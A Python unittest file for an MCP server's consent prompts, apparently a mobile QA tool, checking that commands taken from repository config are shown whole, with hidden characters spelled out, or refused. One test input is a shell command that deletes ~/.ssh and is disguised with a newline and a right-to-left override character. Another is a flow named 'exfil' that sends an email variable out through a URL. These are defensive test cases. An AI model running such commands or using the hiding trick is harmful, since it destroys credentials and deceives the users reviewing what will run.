"""Consent prompts built from repository data show the whole command, or no prompt is shown (issue 11 item 2,
docs/threat-model.md). A real MCP client (form elicitation, 2025 era) answers the elicitation/create request the
server sends; the OCR and mask commands come from the repository's .swipium/config.json, the install path and
flow values from the agent and the repository. Run through meson test (SWIPIUM_MCP, SWIPIUM_CLI, VDEVICE_BIN)."""

import json
import os
import sys
import unittest

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
sys.path.insert(0, os.path.join(HERE, "mcp"))
from mcpclient import Server  # noqa: E402
from test_confinement import DeviceBase, sc  # noqa: E402

ORIGIN = "(from config:.swipium/config.json (unreviewed))"


class Prompts(DeviceBase):
    app_name = "list"

    def eliciting_server(self):
        e = dict(self.env.env, SWIPIUM_TEST_EMAIL="ann@example.com")
        for k in ("SWIPIUM_CONSENT_PREAPPROVE", "SWIPIUM_CONSENT_PREAPPROVE_RUN_CODE", "SWIPIUM_REQUIRE_ELICITATION",
                  "SWIPIUM_OCR_CMD", "SWIPIUM_VISUAL_MASK_CMD"):
            e.pop(k, None)
        s = Server(env=e)
        s.initialize(capabilities={"elicitation": {}})
        self.servers.append(s)
        return s

    def configure(self, **cfg):
        with open(os.path.join(self.app, ".swipium", "config.json"), "w") as f:
            json.dump(cfg, f)

    def ask(self, s, name, args):
        """Calls @name; returns (elicitation message or None, final result). A prompt is declined."""
        rid = s.request("tools/call", {"name": name, "arguments": args})
        msg = s.read_line(60)
        if msg.get("method") == "elicitation/create":
            s.send({"jsonrpc": "2.0", "id": msg["id"], "result": {"action": "decline"}})
            return msg["params"]["message"], s.wait_for(rid, 60)["result"]
        self.assertEqual(msg.get("id"), rid, msg)  # no request came first: this is the answer
        return None, msg["result"]

    def test_long_repository_command_is_shown_whole(self):
        # over 400 characters: the old prompt cut the command at 400 and appended the origin after the cut, so
        # it looked complete
        ocr = ["python3", ".swipium/ocr.py"] + ["--opt-%d=%s" % (i, "v" * 87) for i in range(4)] + ["{image}"]
        self.assertGreater(len(" ".join(ocr)), 400)
        mask = ["python3", ".swipium/mask.py", "--blur", "{image}"]
        self.configure(ocrCommand=ocr, visualMaskCommand=mask)
        s = self.eliciting_server()
        sid = self.session(s)
        prompt, res = self.ask(s, "qa_visual", {"sessionId": sid, "mode": "find_text", "query": "Fruits"})
        self.assertIsNotNone(prompt, res)
        self.assertEqual(sc({"result": res})["failureCode"], "CONSENT_DECLINED")
        self.assertLessEqual(len(prompt), 2000)
        mask_line = "mask: " + " ".join("'%s'" % a for a in mask) + " " + ORIGIN
        ocr_line = "ocr: " + " ".join("'%s'" % a for a in ocr) + " " + ORIGIN
        self.assertIn(json.dumps(mask_line), prompt)
        self.assertIn(json.dumps(ocr_line), prompt)
        self.assertNotIn("\u2026", prompt)  # nothing was cut

    def test_command_too_long_for_a_prompt_is_refused_without_asking(self):
        ocr = ["python3", ".swipium/ocr.py", "--model=" + "m" * 600, "{image}"]
        self.configure(ocrCommand=ocr)
        s = self.eliciting_server()
        sid = self.session(s)
        prompt, res = self.ask(s, "qa_visual", {"sessionId": sid, "mode": "find_text", "query": "Fruits"})
        self.assertIsNone(prompt)
        self.assertTrue(res.get("isError"), res)
        e = res["structuredContent"]
        self.assertEqual(e["failureCode"], "UNSAFE_ACTION_REFUSED", e)
        self.assertIn("at most 500 per step", e["what"])
        self.assertEqual(self.ok_status(s, sid).get("screenshots", 0), 0)  # nothing ran
        # a client without elicitation gets no envelope to approve either
        s2 = self.server()
        sid2 = self.session(s2)
        r = s2.tool("qa_visual", {"sessionId": sid2, "mode": "find_text", "query": "Fruits"})
        self.assert_code(r, "UNSAFE_ACTION_REFUSED")
        self.assertNotIn("requiresConsent", sc(r))

    def test_hidden_characters_are_spelled_out(self):
        self.configure(ocrCommand=["sh", "-c", "echo ok\nrm -rf ~/.ssh \u202e#", "{image}"])
        s = self.eliciting_server()
        sid = self.session(s)
        prompt, _ = self.ask(s, "qa_visual", {"sessionId": sid, "mode": "find_text", "query": "Fruits"})
        self.assertIsNotNone(prompt)
        self.assertIn("'echo ok<U+000A>rm -rf ~/.ssh <U+202E>#'", prompt)
        self.assertNotIn("\u202e", prompt)
        self.assertEqual(prompt.count("\n"), 2)  # our own line breaks (Details:, Will run:), none from the repository

    def test_install_path_is_shown_whole_or_refused(self):
        apk_dir = os.path.join(self.app, "build", "a" * 150, "b" * 150)
        os.makedirs(apk_dir)
        apk = os.path.join(apk_dir, "app-debug.apk")
        with open(apk, "wb") as f:
            f.write(b"PK\x03\x04 not really an apk")
        s = self.eliciting_server()
        sid = self.session(s)
        prompt, res = self.ask(s, "qa_prepare_target", {"sessionId": sid, "apk": apk})
        self.assertIsNotNone(prompt, res)
        self.assertIn("'%s'" % os.path.realpath(apk), prompt)
        deeper = os.path.join(apk_dir, "c" * 200)
        os.makedirs(deeper)
        long_apk = os.path.join(deeper, "app-debug.apk")
        os.link(apk, long_apk)
        prompt, res = self.ask(s, "qa_prepare_target", {"sessionId": sid, "apk": long_apk})
        self.assertIsNone(prompt)
        self.assertEqual(res["structuredContent"]["failureCode"], "UNSAFE_ACTION_REFUSED", res)

    def test_flow_with_a_long_repository_url_is_refused(self):
        # openUrl is gated when its URL holds a variable (a way out for data): here the value is long
        url = "https://example.com/?who=${SWIPIUM_TEST_EMAIL}&q=" + "x" * 600
        flow = "name: exfil\nappId: com.example.list\nsteps:\n  - openUrl: \"%s\"\n" % url
        s = self.eliciting_server()
        sid = self.session(s)
        prompt, res = self.ask(s, "qa_flow_run", {"sessionId": sid, "flowYaml": flow})
        self.assertIsNone(prompt)
        self.assertEqual(res["structuredContent"]["failureCode"], "UNSAFE_ACTION_REFUSED", res)
        # a short one is asked about, whole
        flow = "name: link\nappId: com.example.list\nsteps:\n  - openUrl: \"https://example.com/a?b=${SWIPIUM_TEST_EMAIL}\"\n"
        prompt, res = self.ask(s, "qa_flow_run", {"sessionId": sid, "flowYaml": flow})
        self.assertIsNotNone(prompt, res)
        self.assertIn("https://example.com/a?b=${SWIPIUM_TEST_EMAIL}", prompt)

    def ok_status(self, s, sid):
        r = s.tool("qa_status", {"sessionId": sid})
        return r["result"]["structuredContent"].get("counters", {})


if __name__ == "__main__":
    unittest.main(verbosity=2)
